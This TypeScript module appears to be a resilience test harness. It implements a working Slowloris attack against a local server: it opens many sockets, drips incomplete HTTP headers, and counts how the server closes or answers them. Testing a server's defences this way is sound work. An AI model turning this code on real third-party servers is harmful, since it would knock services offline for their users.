import { connect, type Socket } from 'node:net';
import { ATTACKER_ADDRESS } from '../measure.js';

export interface SlowlorisFacts {
  opened: number;
  /** Sockets the server closed before the attacker gave up on them (refused at once, or timed out). */
  closedByServer: number;
  /** Of those, closed within the first second (refused rather than timed out). */
  closedWithinOneSecond: number;
  /** Still held open by the server when the attack ended. */
  stillOpen: number;
  /** The first line of what the server sent back, by count ("HTTP/1.1 408 Request Timeout": 12). */
  answers: Record<string, number>;
}

/**
 * Slowloris: `sockets` connections from one address, each sending a request line and then one header line
 * every `dripMs`, never finishing the headers, for `holdMs`. What a server must not do is keep them all
 * for ever, or let them crowd out new clients.
 */
export async function slowloris(scale: {
  url: string;
  sockets: number;
  holdMs: number;
  dripMs?: number;
  localAddress?: string;
}): Promise<SlowlorisFacts> {
  const { port } = new URL(scale.url);
  const sockets: Socket[] = [];
  const facts: SlowlorisFacts = { opened: 0, closedByServer: 0, closedWithinOneSecond: 0, stillOpen: 0, answers: {} };
  let ending = false;
  const opening: Promise<void>[] = [];
  for (let i = 0; i < scale.sockets; i++) {
    opening.push(
      new Promise<void>((resolve) => {
        const openedAt = Date.now();
        const s = connect({ host: '127.0.0.1', port: Number(port), localAddress: scale.localAddress ?? ATTACKER_ADDRESS });
        sockets.push(s);
        s.setNoDelay(true);
        s.on('connect', () => {
          facts.opened++;
          s.write(`GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-a: ${i}\r\n`);
          resolve();
        });
        s.on('data', (d: Buffer) => {
          const line = d.toString('latin1').split('\r\n', 1)[0] ?? '';
          facts.answers[line] = (facts.answers[line] ?? 0) + 1;
        });
        s.on('error', () => resolve());
        s.on('close', () => {
          if (ending) return;
          facts.closedByServer++;
          if (Date.now() - openedAt < 1000) facts.closedWithinOneSecond++;
          resolve();
        });
      }),
    );
    // Let the event loop breathe between batches, as a real attacker's kernel would.
    if (i % 200 === 199) await new Promise((r) => setImmediate(r));
  }
  await Promise.all(opening);
  const drip = setInterval(() => {
    for (const s of sockets) if (!s.destroyed) s.write('X-b: 1\r\n');
  }, scale.dripMs ?? 1000);
  await new Promise((r) => setTimeout(r, scale.holdMs));
  clearInterval(drip);
  ending = true;
  facts.stillOpen = sockets.filter((s) => !s.destroyed).length;
  for (const s of sockets) s.destroy();
  return facts;
}
